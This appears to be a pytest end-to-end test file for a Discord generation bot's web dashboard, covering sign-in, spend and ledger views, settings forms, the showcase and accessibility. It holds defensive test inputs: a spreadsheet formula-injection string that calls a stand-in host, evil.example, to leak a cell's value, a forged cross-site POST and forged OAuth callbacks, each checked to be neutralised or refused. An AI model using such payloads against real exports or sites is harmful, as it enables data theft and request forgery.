"""The web dashboard served by the real bot process: start-up, the link in ``/config``, and a
real browser (Debian's Chromium, driven by Playwright) signing in through the Discord emulator.

The browser tests save screenshots at 1280 and 390 pixels wide (``tmp/artifacts/dashboard``,
or ``$GENBOT_ARTIFACTS``), check that no page scrolls sideways and that the console stays free
of errors (the strict CSP would report any inline script or style there). Without Chromium or
Playwright they are skipped, except where ``GENBOT_BROWSER_TESTS=required`` (``.ci/run``).
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import socket
import sqlite3
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import aiohttp
import pytest
import pytest_asyncio
from PIL import Image

from bot.i18n import money
from tests.support.e2e.harness import (
    BOT_TOKEN,
    MEMBER_PERMISSIONS,
    World,
    action_buttons,
    close_world,
    open_world,
)

ROOT = Path(__file__).resolve().parents[2]
SECRET = "e2e-client-secret"
IMAGE_MODEL = "black-forest-labs/flux-schnell"
VIDEO_MODEL = "aurora-lite/text-to-video"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
WIDTHS = (1280, 390)

pytestmark = pytest.mark.asyncio(loop_scope="module")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def world(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[World]:
    port = free_port()
    opened = await open_world(
        Path(tmp_path_factory.mktemp("e2e")),
        overrides={
            "DASHBOARD_PUBLIC_URL": f"http://127.0.0.1:{port}",
            "DISCORD_CLIENT_SECRET": SECRET,
            "METRICS_PORT": "0",
        },
    )
    opened.discord.oauth.client_secret = SECRET
    yield opened
    await close_world(opened)
    log = opened.bot.log()
    assert SECRET not in log
    assert BOT_TOKEN not in log
    assert "Traceback" not in log
    assert opened.discord.server_errors == []


def dashboard_url(world: World) -> str:
    return str(world.bot.env["DASHBOARD_PUBLIC_URL"])


def month_of_usage(text: str) -> str:
    """The "This month (UTC)" figure of a /usage answer, as shown."""
    found = re.search(r"This month \(UTC\)\s*\n(\S+)", text)
    assert found is not None, text
    return found.group(1)


def dollars(shown: str) -> Decimal:
    """A dashboard figure, ``$0.0035``, as Decimal dollars."""
    return Decimal(shown.strip().removeprefix("$"))


async def paid_images(world: World, count: int) -> None:
    for i in range(count):
        answer = await world.answer(
            await world.command("image", {"prompt": f"=1+{i} kites", "model": IMAGE_MODEL})
        )
        assert answer.attachments or answer.urls, answer.text


async def test_start_up_prints_the_redirect_uri_and_config_links_the_dashboard(
    world: World,
) -> None:
    url = dashboard_url(world)
    assert "OAuth2 redirect URI to add in the Discord developer portal" in world.bot.log()
    assert f"{url}/auth/callback" in world.bot.log()
    metrics = re.search(r"metrics and health checks at http://[^:]+:(\d+)", world.bot.log())
    assert metrics is not None and int(metrics.group(1)) != urlsplit(url).port
    shown = await world.answer(await world.command("config", {}, admin=True, subcommand="show"))
    assert f"{url}/servers/{world.guild.id}" in shown.text


async def test_the_csv_export_adds_up_to_usage(world: World) -> None:
    """Signed in over HTTP (no browser): the exported ledger's sum is /usage's month, and a
    prompt a spreadsheet would run is exported as text."""
    await paid_images(world, 2)
    await world.answer(await world.command("video", {"prompt": FORMULA, "model": VIDEO_MODEL}))
    usage = month_of_usage((await world.answer(await world.command("usage", {}, admin=True))).text)
    base = dashboard_url(world)
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        begun = await http.get(f"{base}/auth/login", allow_redirects=False)
        authorize = begun.headers["Location"]
        world.discord.oauth.browser_user = world.admin.id
        form = dict(parse_qsl(urlsplit(authorize).query), action="authorize")
        consent = await http.post(
            f"{world.discord.base_url}/oauth2/authorize", data=form, allow_redirects=False
        )
        signed = await http.get(consent.headers["Location"], allow_redirects=False)
        assert signed.headers["Location"] == "/servers"
        exported = await http.get(f"{base}/servers/{world.guild.id}/ledger.csv")
        rows = list(csv.DictReader(io.StringIO(await exported.text())))
    total = sum((Decimal(r["amount_usd"]) for r in rows), Decimal(0))
    assert money(total * 100) == usage
    assert [r["prompt"] for r in rows if r["kind"] == "video"] == ["'" + FORMULA]


# -- in a real browser ---------------------------------------------------------------------


def artifacts() -> Path:
    folder = Path(os.environ.get("GENBOT_ARTIFACTS", ROOT / "tmp" / "artifacts")) / "dashboard"
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def chromium() -> AsyncIterator[Any]:
    """Debian's Chromium under Playwright; skipped when missing, unless CI requires it."""
    required = os.environ.get("GENBOT_BROWSER_TESTS") == "required"
    executable = shutil.which("chromium") or shutil.which("chromium-browser")
    try:
        from playwright.async_api import async_playwright
    except ImportError:
        async_playwright = None
    if executable is None or async_playwright is None:
        missing = "chromium" if executable is None else "playwright"
        if required:
            pytest.fail(f"{missing} is missing and GENBOT_BROWSER_TESTS=required")
        pytest.skip(f"{missing} is missing (apt-get install chromium; pip install playwright)")
    async with async_playwright() as driver:
        browser = await driver.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
        yield browser
        await browser.close()


class Tab:
    """One browser context (its own cookies) and page, recording console errors."""

    def __init__(self, page: Any, name: str) -> None:
        self.page = page
        self.name = name
        self.errors: list[str] = []
        page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.failed: list[str] = []
        page.on("response", lambda r: r.status >= 400 and self.failed.append(f"{r.status} {r.url}"))

    async def shoot(self, label: str) -> None:
        """Screenshots at each width; the page must not scroll sideways at any."""
        for width in WIDTHS:
            await self.page.set_viewport_size({"width": width, "height": 900})
            overflow = await self.page.evaluate(
                "document.documentElement.scrollWidth - document.documentElement.clientWidth"
            )
            assert overflow <= 0, f"{label} overflows by {overflow}px at {width}px"
            await self.page.screenshot(
                path=str(artifacts() / f"{self.name}-{label}-{width}.png"), full_page=True
            )
        await self.page.set_viewport_size({"width": 1280, "height": 900})


def avatar_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64), (88, 101, 242)).save(out, "PNG")
    return out.getvalue()


async def open_tab(chromium: Any, name: str) -> Tab:
    """A tab of its own; Discord's CDN (members' avatars) answered locally, offline."""
    context = await chromium.new_context(accept_downloads=True)
    image = avatar_png()
    await context.route(
        "https://cdn.discordapp.com/**",
        lambda route: route.fulfill(status=200, content_type="image/png", body=image),
    )
    return Tab(await context.new_page(), name)


async def sign_in(world: World, tab: Tab, user_id: int) -> None:
    page = tab.page
    await page.goto(dashboard_url(world) + "/")
    world.discord.oauth.browser_user = user_id
    await page.click("text=Sign in with Discord")
    await page.click("#authorize")  # Discord's consent page
    await page.wait_for_url(re.compile(r"/servers$"))


async def test_in_a_browser_an_admin_reads_the_money_and_exports_it(
    world: World, chromium: Any
) -> None:
    await paid_images(world, 1)
    usage = month_of_usage((await world.answer(await world.command("usage", {}, admin=True))).text)
    tab = await open_tab(chromium, "admin")
    page = tab.page
    await sign_in(world, tab, world.admin.id)
    await tab.shoot("servers")
    await page.click(f'a[href="/servers/{world.guild.id}"]')
    assert money(dollars(await page.inner_text("#month-spend")) * 100) == usage
    await tab.shoot("overview")
    await page.click("nav.tabs >> text=Spend")
    assert money(dollars(await page.inner_text("#usage-month")) * 100) == usage
    await page.click("text=90 days")
    # Stacked by kind, each kind named in the legend; the figures in the table beside.
    legend = await page.locator("svg.chart text.legend").all_text_contents()
    assert legend == ["text", "image", "video"]
    assert await page.locator("svg.chart rect.segment.kind-image").count() >= 1
    assert await page.locator("#by-day tbody tr").count() == 90
    await tab.shoot("spend")
    await page.click("nav.tabs >> text=Ledger")
    await page.wait_for_selector("#ledger-total")
    await tab.shoot("ledger")
    # The filter form: htmx swaps the results in place (a plain GET without JavaScript).
    await page.select_option("select[name=kind]", "video")
    await page.click("form.filters button[type=submit]")
    await page.wait_for_url(re.compile(r"kind=video"))
    await page.wait_for_selector("#ledger-total")
    await page.select_option("select[name=kind]", "")
    await page.click("form.filters button[type=submit]")
    await page.wait_for_url(re.compile(r"kind=&|kind=$"))
    async with page.expect_download() as waiting:
        await page.click("#csv")
    download = await waiting.value
    text = Path(await download.path()).read_text(encoding="utf-8")
    total = sum((Decimal(r["amount_usd"]) for r in csv.DictReader(io.StringIO(text))), Decimal(0))
    assert money(total * 100) == usage
    await page.click("nav.tabs >> text=Gallery")
    await tab.shoot("gallery")
    await page.click("nav.tabs >> text=Audit log")
    await tab.shoot("audit")
    await page.click("text=Sign out")
    await page.wait_for_url(re.compile(r"/$"))
    assert (tab.errors, tab.failed) == ([], [])


async def test_in_a_browser_a_member_sees_my_results_and_404_on_the_server(
    world: World, chromium: Any
) -> None:
    tab = await open_tab(chromium, "member")
    page = tab.page
    await sign_in(world, tab, world.member.id)
    assert await page.locator(f'a[href="/servers/{world.guild.id}"]').count() == 0
    await page.click("text=My results")
    await page.wait_for_selector("h1:has-text('My results')")
    await tab.shoot("me")
    for path in ("", "/spend", "/ledger"):
        response = await page.goto(f"{dashboard_url(world)}/servers/{world.guild.id}{path}")
        assert response is not None and response.status == 404
    assert [e for e in tab.errors if "404" not in e] == []


# -- editing the server's settings in a browser ----------------------------------------------

CHEAP_VIDEO = "aurora-lite/text-to-video"  # 20 cents per 5 s


async def as_member(world: World, user_id: int, name: str, options: dict[str, Any]) -> str:
    return (await world.answer(await world.command(name, options, user_id=user_id))).content


async def admin_channel(world: World) -> int:
    """The server's admin channel (set once with /config admin-channel)."""
    channels = [c for c in world.discord.world.channels.values() if c.name == "admin-log"]
    if channels:
        return int(channels[0].id)
    channel = world.discord.add_channel(world.guild.id, "admin-log")
    answer = await world.answer(
        await world.command("config", {"channel": channel}, admin=True, subcommand="admin-channel")
    )
    assert answer.ephemeral
    return int(channel.id)


async def posted(world: World, channel_id: int, text: str) -> str:
    message = await world.discord.wait_for_message(
        lambda m: m.channel_id == channel_id and text in m.content,
        include_existing=True,
        timeout=10,
    )
    return str(message.content)


async def test_in_a_browser_a_tier_allowance_set_on_the_web_judges_the_next_video(
    world: World, chromium: Any
) -> None:
    log_channel = await admin_channel(world)
    role = world.discord.add_role(world.guild.id, "Patron")
    patron = world.discord.add_user("patron")
    world.discord.give_role(world.guild.id, patron.id, role.id)
    tab = await open_tab(chromium, "editor")
    page = tab.page
    await sign_in(world, tab, world.admin.id)
    await page.goto(f"{dashboard_url(world)}/servers/{world.guild.id}")
    await page.click("nav.tabs >> text=Tiers")
    form = page.locator("#new-tier")
    await form.locator(f"input[name=role_id][value='{role.id}']").check()
    await form.locator("input[name=models_mode][value=picked]").check()
    await form.locator(f"input[name=model][value='{CHEAP_VIDEO}']").check()
    await form.locator(f"input[name=model][value='{IMAGE_MODEL}']").check()
    await form.locator("input[name=daily]").fill("0.10")
    await page.wait_for_selector("#new-tier .unsaved-note")  # shown before leaving the page
    await tab.shoot("tiers-unsaved")
    await form.locator("button[type=submit]").click()
    await page.wait_for_selector("#form-notice")
    assert await page.inner_text("#form-notice") == "Saved."
    await tab.shoot("tiers")
    video = {"prompt": "a fox at dawn", "model": CHEAP_VIDEO, "duration": 5}
    refused = await as_member(world, patron.id, "video", video)
    assert "Your daily allowance ($0.10, role Patron)" in refused
    # What the pickers saved is what /config show reports.
    shown = await world.answer(await world.command("config", {}, admin=True, subcommand="show"))
    tier_line = next(line for line in shown.text.splitlines() if f"<@&{role.id}>" in line)
    assert f"`{IMAGE_MODEL}`" in tier_line and f"`{CHEAP_VIDEO}`" in tier_line, shown.text
    # Raised on the web: the very next /video is accepted.
    tier = page.locator(f"#tier-{role.id}")
    await tier.locator("input[name=daily]").fill("5")
    await tier.locator("button[value=save]").click()
    await page.wait_for_selector("#form-notice")
    assert "on its way" in await as_member(world, patron.id, "video", video)
    # The audit log and the admin channel name the change, made on the web.
    await page.click("nav.tabs >> text=Audit log")
    row = page.locator("tr", has_text="tier Patron").filter(has_text="daily per member").first
    assert "web" in await row.inner_text()
    line = await posted(world, log_channel, "daily per member: $0.10 → $5.00")
    assert line.startswith(f"<@{world.admin.id}> changed the bot's settings on the web dashboard")
    assert (tab.errors, tab.failed) == ([], [])


async def test_in_a_browser_try_a_prompt_agrees_with_the_command(
    world: World, chromium: Any
) -> None:
    tab = await open_tab(chromium, "terms")
    page = tab.page
    await sign_in(world, tab, world.admin.id)
    await page.goto(f"{dashboard_url(world)}/servers/{world.guild.id}/settings/blocked-terms")
    await page.fill("#add-term input[name=term]", "Moon Beam")
    await page.click("#add-term button[type=submit]")
    await page.wait_for_selector("#form-notice")
    prompt = "a MOON\u200b BEAM over the sea"  # a hidden character does not hide the term
    await page.fill("#try input[name=prompt]", prompt)
    await page.click("#try button[type=submit]")
    assert "blocked term moon beam" in await page.inner_text("#try-result")
    await tab.shoot("blocked-terms")
    refused = await as_member(world, world.member.id, "text", {"prompt": prompt})
    assert refused == "This prompt uses a term this server does not allow; nothing was sent."
    await page.fill("#try input[name=prompt]", "moonbeams over the sea")
    await page.click("#try button[type=submit]")
    assert (await page.inner_text("#try-result")).startswith("Allowed")
    allowed = await as_member(world, world.member.id, "text", {"prompt": "moonbeams over the sea"})
    assert "does not allow" not in allowed
    assert (tab.errors, tab.failed) == ([], [])


async def test_in_a_browser_a_viewer_has_no_forms_and_forged_posts_change_nothing(
    world: World, chromium: Any
) -> None:
    base = dashboard_url(world)
    role = world.discord.add_role(world.guild.id, "Treasurer")
    viewer = world.discord.add_user("treasurer")
    world.discord.give_role(world.guild.id, viewer.id, role.id)
    admin_tab = await open_tab(chromium, "access")
    await sign_in(world, admin_tab, world.admin.id)
    page = admin_tab.page
    await page.goto(f"{base}/servers/{world.guild.id}/settings/access")
    row = page.locator("tr", has_text="Treasurer")
    await row.locator("select[name=access]").select_option("view")
    await row.locator("button[type=submit]").click()
    await page.wait_for_selector("#form-notice")
    tab = await open_tab(chromium, "viewer")
    await sign_in(world, tab, viewer.id)
    tiers_url = f"{base}/servers/{world.guild.id}/settings/tiers"
    for path in ("tiers", "budgets", "blocked-terms", "access"):
        await tab.page.goto(f"{base}/servers/{world.guild.id}/settings/{path}")
        await tab.page.wait_for_selector("#view-only")
        assert await tab.page.locator("main form[method=post]").count() == 0, path
    await tab.shoot("viewer-tiers")
    token = await tab.page.locator("header input[name=token]").get_attribute("value")
    forged = {"token": token or "", "base": "", "role_id": str(role.id), "daily": "99"}
    answer = await tab.page.request.post(tiers_url, form=forged, headers={"Origin": base})
    assert answer.status == 403
    # A cross-site POST riding the admin's session: no token, a foreign Origin.
    cross = await page.request.post(
        tiers_url,
        form={"role_id": str(role.id), "daily": "99", "action": "save"},
        headers={"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"},
    )
    assert cross.status == 403
    await page.goto(tiers_url)
    assert await page.locator(f"#tier-{role.id}").count() == 0  # no tier was made


async def test_in_a_browser_two_saves_of_one_setting_the_later_is_told(
    world: World, chromium: Any
) -> None:
    base = dashboard_url(world)
    first, second = await open_tab(chromium, "first"), await open_tab(chromium, "second")
    url = f"{base}/servers/{world.guild.id}/settings/budgets"
    for tab in (first, second):
        await sign_in(world, tab, world.admin.id)
        await tab.page.goto(url)
    await first.page.fill("input[name=monthly]", "40")
    await second.page.fill("input[name=monthly]", "60")
    await first.page.click("main button[type=submit]")
    await first.page.wait_for_selector("#form-notice")
    await second.page.click("main button[type=submit]")
    await second.page.wait_for_selector("#form-error")
    assert "changed this setting since you opened the page" in await second.page.inner_text(
        "#form-error"
    )
    assert await second.page.input_value("input[name=monthly]") == "40.00"
    await second.shoot("budgets-conflict")


# -- the showcase ----------------------------------------------------------------------------


async def finished_video(world: World, prompt: str) -> Any:
    await world.answer(await world.command("video", {"prompt": prompt, "model": CHEAP_VIDEO}))
    card = await world.discord.wait_for_message(lambda m: prompt in m.text, include_existing=True)
    return await world.discord.wait_for_edit(card.id, lambda m: "/files/" in m.text, 30)


async def press(world: World, message: Any, label: str, user_id: int) -> str:
    custom_id = next(
        b["custom_id"] for b in action_buttons(message) if b["label"].startswith(label)
    )
    handle = await world.discord.press_button(
        message.id, custom_id, user_id=user_id, permissions=MEMBER_PERMISSIONS
    )
    return str((await world.answer(handle)).content)


async def public_page(base: str, guild_id: int) -> tuple[int, str]:
    async with aiohttp.ClientSession() as http, http.get(f"{base}/showcase/{guild_id}") as page:
        return page.status, await page.text()


async def test_share_vote_remove_and_the_public_showcase(world: World, chromium: Any) -> None:
    base = dashboard_url(world)
    channel = world.discord.add_channel(world.guild.id, "showcase")
    answer = await world.answer(
        await world.command("config", {"channel": channel}, admin=True, subcommand="showcase")
    )
    assert answer.ephemeral and "Showcase channel updated" in answer.content
    voter = world.discord.add_user("voter")
    world.discord.world.ensure_member(world.guild.id, voter.id)
    lighthouse = await finished_video(world, "a lighthouse in fog")
    harbour = await finished_video(world, "a harbour at night")
    # Only the member who asked may share it.
    refused = await press(world, lighthouse, "Share", voter.id)
    assert refused == "Only the member who asked for this result can share it."
    assert await press(world, lighthouse, "Share", world.member.id) == (
        "Shared to this server's showcase."
    )
    post = await world.discord.wait_for_message(
        lambda m: m.channel_id == channel.id and "a lighthouse in fog" in m.content,
        include_existing=True,
    )
    assert f"<@{world.member.id}> shared a video" in post.content
    # One vote per member: twice counts once.
    assert await press(world, post, "Vote", voter.id) == "Vote counted: 1 in all."
    assert await press(world, post, "Vote", voter.id) == (
        "You voted for this already (one vote each): 1 in all."
    )
    # Not public by default: nothing at the public address.
    assert (await public_page(base, world.guild.id))[0] == 404
    tab = await open_tab(chromium, "showcase")
    page = tab.page
    await sign_in(world, tab, world.admin.id)
    await page.goto(f"{base}/servers/{world.guild.id}/showcase?period=all")
    await page.select_option("#public select[name=public]", "on")
    await page.click("#public button[type=submit]")
    await page.wait_for_selector("#public-link")
    # Made public: only what is shared from now on is published; the lighthouse, shared
    # before, stays in the server.
    assert await press(world, harbour, "Share", world.member.id) == (
        "Shared to this server's showcase."
    )
    await page.goto(f"{base}/servers/{world.guild.id}/showcase?period=all")
    ranked = await page.locator("#showcase li.thumb .prompt").all_inner_texts()
    assert ranked[:2] == ["a lighthouse in fog", "a harbour at night"]  # most votes first
    status, text = await public_page(base, world.guild.id)
    assert status == 200
    assert re.findall(r'<span class="prompt">([^<]*)</span>', text) == ["a harbour at night"]
    # An admin removes one: gone from the public page at once.
    harbour_entry = page.locator("#showcase li.thumb", has_text="a harbour at night")
    await harbour_entry.locator("button[value=remove]").click()
    await page.wait_for_selector("#form-notice")
    await tab.shoot("showcase")
    status, text = await public_page(base, world.guild.id)
    prompts = re.findall(r'<span class="prompt">([^<]*)</span>', text)
    assert status == 200 and prompts == []
    await world.discord.signal.wait_for(  # its post leaves the showcase channel too
        lambda: (
            True
            if not any(
                "a harbour at night" in m.content
                for m in world.discord.channel_messages(channel.id)
            )
            else None
        ),
        10,
        "the removed entry's post deleted",
    )
    assert await press(world, harbour, "Share", world.member.id) == (
        "This result is in the showcase already (or an admin removed it)."
    )
    await page.select_option("#public select[name=public]", "off")
    await page.click("#public button[type=submit]")
    await page.wait_for_selector("#form-notice")
    status, text = await public_page(base, world.guild.id)
    assert status == 404 and "a lighthouse in fog" not in text
    assert (tab.errors, tab.failed) == ([], [])
    cleared = await world.answer(
        await world.command("config", {}, admin=True, subcommand="showcase")
    )
    assert cleared.ephemeral and "Showcase channel cleared" in cleared.content
    await page.goto(f"{base}/servers/{world.guild.id}/audit?what=showcase")
    audit = await page.inner_text("#results")
    assert f"<#{channel.id}>" in audit and "public showcase page" in audit


# -- pictures and players ----------------------------------------------------------------------


def centre_colour(data: bytes) -> tuple[int, int, int]:
    """The middle pixel of a served thumbnail (WebP), decoded by Pillow."""
    image = Image.open(io.BytesIO(data)).convert("RGB")
    r, g, b = image.getpixel((image.width // 2, image.height // 2))  # type: ignore[misc]
    return r, g, b


def is_red(rgb: tuple[int, int, int]) -> bool:
    r, g, b = rgb
    return r > 200 and g < 60 and b < 60


async def shown_thumbnails(page: Any, url: str, prompts: tuple[str, ...]) -> dict[str, str]:
    """The page's thumbnails, alt text (the prompt) -> source, once it shows one for each of
    ``prompts`` (kept at delivery, maybe a moment after the answer)."""
    shown: dict[str, str] = {}
    for _ in range(50):
        await page.goto(url)
        found = await page.locator("a.tile img").evaluate_all(
            "images => images.map(i => [i.alt, i.getAttribute('src')])"
        )
        shown = {str(alt): str(src) for alt, src in found}
        if all(p in shown for p in prompts):
            return shown
        await page.wait_for_timeout(100)
    raise AssertionError(f"{url} shows {sorted(shown)}, not all of {prompts}")


async def test_in_a_browser_the_gallery_and_the_public_showcase_show_the_results_pictures(
    world: World, chromium: Any
) -> None:
    """Red results (``color:red``, docs/testing.md) are red thumbnails in the Gallery and on
    the public Showcase; a video opens in a player; once the cards' files are out of reach
    (expired), the gallery and its thumbnails ask Discord nothing and still show every one."""
    base = dashboard_url(world)
    channel = world.discord.add_channel(world.guild.id, "proud-work")
    await world.answer(
        await world.command("config", {"channel": channel}, admin=True, subcommand="showcase")
    )
    tab = await open_tab(chromium, "pictures")
    page = tab.page
    await sign_in(world, tab, world.admin.id)
    await page.goto(f"{base}/servers/{world.guild.id}/showcase?period=all")
    await page.select_option("#public select[name=public]", "on")
    await page.click("#public button[type=submit]")
    await page.wait_for_selector("#public-link")
    red = await world.answer(
        await world.command("image", {"prompt": "a red kite color:red", "model": IMAGE_MODEL})
    )
    await world.answer(
        await world.command("image", {"prompt": "a red barn color:red", "model": IMAGE_MODEL})
    )
    video = await finished_video(world, "a red sunset color:red")
    assert await press(world, red, "Share", world.member.id) == "Shared to this server's showcase."

    kite, barn, sunset = "a red kite color:red", "a red barn color:red", "a red sunset color:red"
    gallery_url = f"{base}/servers/{world.guild.id}/gallery"
    shown = await shown_thumbnails(page, gallery_url, (kite, barn, sunset))
    for prompt in (kite, barn, sunset):  # the video's poster frame too
        served = await page.request.get(base + shown[prompt])  # with the page's cookies
        assert served.status == 200 and is_red(centre_colour(await served.body())), prompt
    await tab.shoot("gallery-pictures")

    # The public showcase, signed out: the shared red kite, as a picture.
    public = await open_tab(chromium, "public")
    shared = await shown_thumbnails(public.page, f"{base}/showcase/{world.guild.id}", (kite,))
    assert list(shared) == [kite]
    served = await public.page.request.get(base + shared[kite])
    assert served.status == 200 and is_red(centre_colour(await served.body()))
    await public.shoot("showcase-public")

    # A video opens in a player.
    await page.goto(f"{base}/servers/{world.guild.id}/gallery?kind=video")
    await page.locator("ul.thumbs li", has_text="a red sunset").locator("a").first.click()
    await page.wait_for_selector("video[controls]")
    assert "/media/" in str(await page.locator("video").get_attribute("src"))
    await tab.shoot("result-video")

    # The cards' files out of reach (Discord's URLs expired, or the cards gone): the gallery
    # still shows every thumbnail, and neither it nor its thumbnails ask Discord anything.
    for message in (red, video):
        world.discord.delete_message(message.channel_id, message.id)
    await page.goto(gallery_url)  # the viewer's rights and the members' names, cached
    asked = len(world.discord.requests)
    every = await shown_thumbnails(page, gallery_url, (kite, barn, sunset))
    for source in every.values():
        served = await page.request.get(base + source)
        assert served.status == 200 and (await served.body())[:4] == b"RIFF", source
    assert [(r.method, r.path) for r in world.discord.requests[asked:]] == []
    # The player's file is the emulator's http:// attachment, which the CSP (https: media, as
    # Discord's CDN is) rightly refuses to play here: the only console error allowed.
    errors = [e for e in tab.errors if not ("/attachments/" in e and "media-src" in e)]
    assert (errors, tab.failed, public.errors, public.failed) == ([], [], [], [])


# -- the dashboard under abuse ------------------------------------------------------------------


def dashboard_rows(world: World) -> dict[str, int]:
    """Rows of the dashboard's tables in the bot's database (read beside the bot, SQLite)."""
    tables = ("dashboard_logins", "dashboard_sessions", "dashboard_roles")
    with sqlite3.connect(world.bot.env["DATABASE_PATH"]) as db:
        return {t: int(db.execute(f"SELECT count(*) FROM {t}").fetchone()[0]) for t in tables}


async def http_sign_in(world: World, http: aiohttp.ClientSession, user_id: int) -> None:
    """The whole sign-in over HTTP, as a browser follows it."""
    base = dashboard_url(world)
    begun = await http.get(f"{base}/auth/login", allow_redirects=False)
    world.discord.oauth.browser_user = user_id
    form = dict(parse_qsl(urlsplit(begun.headers["Location"]).query), action="authorize")
    consent = await http.post(
        f"{world.discord.base_url}/oauth2/authorize", data=form, allow_redirects=False
    )
    signed = await http.get(consent.headers["Location"], allow_redirects=False)
    assert signed.headers["Location"] == "/servers"


async def test_visitors_cost_the_bot_no_discord_calls_and_no_database_writes(
    world: World,
) -> None:
    """A flood of sign-ins, of a member's media the bot cannot read and of unknown servers:
    the database's dashboard tables keep their rows and Discord hears of it once."""
    hidden = world.discord.add_channel(world.guild.id, "hidden")
    prompt = "a hidden kite"
    await world.answer(
        await world.command("video", {"prompt": prompt, "model": CHEAP_VIDEO}, channel_id=hidden.id)
    )
    card = await world.discord.wait_for_message(lambda m: prompt in m.text, include_existing=True)
    await world.discord.wait_for_edit(card.id, lambda m: "/files/" in m.text, 30)
    with sqlite3.connect(world.bot.env["DATABASE_PATH"]) as db:
        job_id = int(
            db.execute("SELECT id FROM jobs WHERE channel_id = ?", (hidden.id,)).fetchone()[0]
        )
    world.discord.revoke_channel_access(hidden.id)
    base = dashboard_url(world)
    before = dashboard_rows(world)
    async with aiohttp.ClientSession() as anonymous:
        for _ in range(25):
            begun = await anonymous.get(f"{base}/auth/login", allow_redirects=False)
            assert begun.status in (302, 429)
        forged = await anonymous.get(f"{base}/auth/callback?state=forged&code=x")
        assert forged.status in (400, 429)
    assert dashboard_rows(world) == before  # not a row for a sign-in begun or forged
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        await http_sign_in(world, http, world.member.id)
        calls = len(world.discord.requests)
        statuses = set()
        for n in range(40):
            media = await http.get(f"{base}/media/{job_id}/0", allow_redirects=False)
            other = await http.get(f"{base}/servers/{123456789012345678 + n}")
            statuses |= {media.status, other.status}
        assert statuses <= {302, 404, 429}, statuses
        caused = [r for r in world.discord.requests[calls:] if "/oauth2" not in r.path]
    # One question about the hidden card (403, then remembered); none about unknown servers.
    assert len(caused) <= 1, [(r.method, r.path) for r in caused]
    assert [r for r in caused if "/guilds/" in r.path] == []
    after = dashboard_rows(world)
    assert after["dashboard_logins"] == before["dashboard_logins"]
    assert after["dashboard_sessions"] == before["dashboard_sessions"] + 1  # the member's own


# -- languages and accessibility -------------------------------------------------------------

AXE = ROOT / "tests" / "support" / "axe.min.js"
"""axe-core (Deque, MPL-2.0; docs/testing.md), vendored: injected into each page tested."""

FOCUSABLE = (
    "a[href], button, input:not([type=hidden]), select, textarea, [tabindex]:not([tabindex='-1'])"
)

AXE_RUN = """async () => {
  const found = await axe.run(document, {resultTypes: ['violations']});
  return found.violations
    .filter(v => v.impact === 'serious' || v.impact === 'critical')
    .map(v => v.id + ' (' + v.impact + '): ' + v.nodes.map(n => n.target.join(' ')).join(', '));
}"""

KEYBOARD = """() => {
  const controls = [...document.querySelectorAll("FOCUSABLE")].filter(e => {
    const box = e.getBoundingClientRect();
    return !e.disabled && box.width > 0 && box.height > 0 &&
      getComputedStyle(e).visibility !== 'hidden';
  });
  // A group of radio buttons is one stop of the Tab key (the arrow keys move within it).
  const groups = new Map();
  let count = 0;
  for (const e of controls) {
    if (e.type === 'radio') {
      const group = [...document.forms].indexOf(e.form) + ':' + e.name;
      if (!groups.has(group)) groups.set(group, String(count++));
      e.dataset.kbd = groups.get(group);
    } else {
      e.dataset.kbd = String(count++);
    }
  }
  return count;
}""".replace("FOCUSABLE", FOCUSABLE)


async def axe_violations(tab: Tab, label: str) -> list[str]:
    """axe-core's serious and critical violations of the page, at each width."""
    found: list[str] = []
    for width in WIDTHS:
        await tab.page.set_viewport_size({"width": width, "height": 900})
        if not await tab.page.evaluate("typeof axe !== 'undefined'"):
            await tab.page.add_script_tag(path=str(AXE))
        found += [f"{label} at {width}px: {v}" for v in await tab.page.evaluate(AXE_RUN)]
    await tab.page.set_viewport_size({"width": 1280, "height": 900})
    return found


async def unreached_by_tab(tab: Tab, label: str) -> list[str]:
    """The visible controls the Tab key does not reach, going once through the page."""
    page = tab.page
    count = await page.evaluate(KEYBOARD)
    await page.evaluate(
        "window.kbdReached = new Set(); document.addEventListener('focusin', e => "
        "e.target.dataset && e.target.dataset.kbd && window.kbdReached.add(e.target.dataset.kbd))"
    )
    await page.evaluate("document.activeElement && document.activeElement.blur()")
    # A date field takes a Tab per part (day, month, year); checked every 10 presses.
    for press in range(3 * count + 10):
        await page.keyboard.press("Tab")
        if press % 10 == 9 and await page.evaluate("window.kbdReached.size") >= count:
            break
    reached = set(await page.evaluate("[...window.kbdReached]"))
    missing = sorted(set(map(str, range(count))) - reached, key=int)
    return [
        f"{label}: "
        + await page.evaluate(f"document.querySelector('[data-kbd=\"{m}\"]').outerHTML")
        for m in missing
    ]


async def test_in_a_browser_every_page_passes_axe_and_the_keyboard_reaches_every_control(
    world: World, chromium: Any
) -> None:
    """axe-core finds no serious or critical violation on any page at 1280 and 390 px, and Tab
    reaches every control (the CSP is bypassed in this context only, to inject axe)."""
    await paid_images(world, 1)
    # A style with a reference: the Styles page is checked with its thumbnail and its form.
    added = await world.answer(
        await world.command(
            "config",
            {"name": "ink", "suffix": "ink wash"},
            admin=True,
            group="style",
            subcommand="add",
            attachments={"image1": ("ink.png", avatar_png(), "image/png")},
        )
    )
    assert "Style `ink` added" in added.content, added.content
    base = dashboard_url(world)
    context = await chromium.new_context(bypass_csp=True)
    tab = Tab(await context.new_page(), "axe")
    page = tab.page
    await sign_in(world, tab, world.admin.id)
    problems = await axe_violations(tab, "servers")
    problems += await unreached_by_tab(tab, "servers")
